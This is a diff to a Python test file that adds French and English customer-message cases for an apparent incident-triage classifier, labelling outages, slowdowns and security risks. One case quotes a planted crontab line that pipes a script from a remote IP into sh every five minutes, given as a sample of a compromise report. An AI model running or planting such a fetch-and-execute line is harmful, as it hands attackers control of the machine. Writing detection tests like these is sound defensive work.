@@ -3596,6 +3596,23 @@ def test_what_the_blind_sets_vg_to_vj_say_at_stake_is_read(text, term, said):
     ("Our outgoing mail bounces: the relay IP is listed on SpamCop since this morning.", "down", "listed on spamcop"),
     ("Probablement un compte WP compromis : des milliers de mails partent du site.", "risk", "compte wp compromis"),
     ("Our weekly scan flagged 6379 open on db-01, and Redis has no password on that box.", "risk", "has no password"),
+    # A mount gone read-only, the kernel killing their app, their domains expired, their relay's queue held.
+    ("fyi /mnt/shared on app01-04 flipped to read-only around 23:30, app is queuing uploads. not urgent-urgent yet.",
+     "down", "flipped to read-only"),
+    ("Suite à un souci de prélèvement, 6 domaines de nos clients ont expiré. Les sites affichent une page de "
+     "parking et les mails rebondissent.", "down", "affichent une page de parking"),
+    ("Our scheduled jobs haven't run since the OS upgrade on Monday. Could you check?", "down", "jobs haven't run"),
+    ("WARNING postfix queue relay-03: 2 300 messages deferred", "slow", "messages deferred"),
+    # A login or a cron line nobody on their side made; their data listed or reachable for anyone; backups not run.
+    ("Je reçois une alerte de notre outil : connexion root réussie à 23h02 depuis 185.220.x.x (pas nous).", "risk",
+     "connexion root réussie"),
+    ("je vois dans crontab -l une ligne que je n'ai pas mise : */5 * * * * curl -s http://45.9.x.x/x.sh | sh", "risk",
+     "que je n'ai pas mise"),
+    ("Testing from my home wifi I can connect to our redis on port 6379 without any password and run KEYS *.", "risk",
+     "without any password"),
+    ("after yesterday's migration, our bucket 'kyc-docs' seems to be listable without auth", "risk",
+     "listable without auth"),
+    ("Our nightly backups have not run for 12 days, no rush.", "risk", "backups have not run"),
     # Someone posing as our support asks for their secrets; a login nobody on their side made.
     ("A guy called me saying he's from your support, that there's an incident on your storage and he needs my root "
      "password. I didn't give it. Is this legit?", "risk", "needs my root password"),
@@ -3603,7 +3620,7 @@ def test_what_the_blind_sets_vg_to_vj_say_at_stake_is_read(text, term, said):
      "paie-srv1 sshd[28811]: Accepted publickey for root from 45.134.26.118 port 51522 ssh2\nC'est normal ?", "risk",
      "ne reconnais pas cette ip"),
 ])
-def test_what_the_blind_sets_vk_to_vr_say_is_read(text, term, said):
+def test_what_the_blind_sets_vk_to_vv_say_is_read(text, term, said):
     h = terms(heat([customer(at(0), text)], at(1)))
     assert said in h[term] and "calm" not in h
 
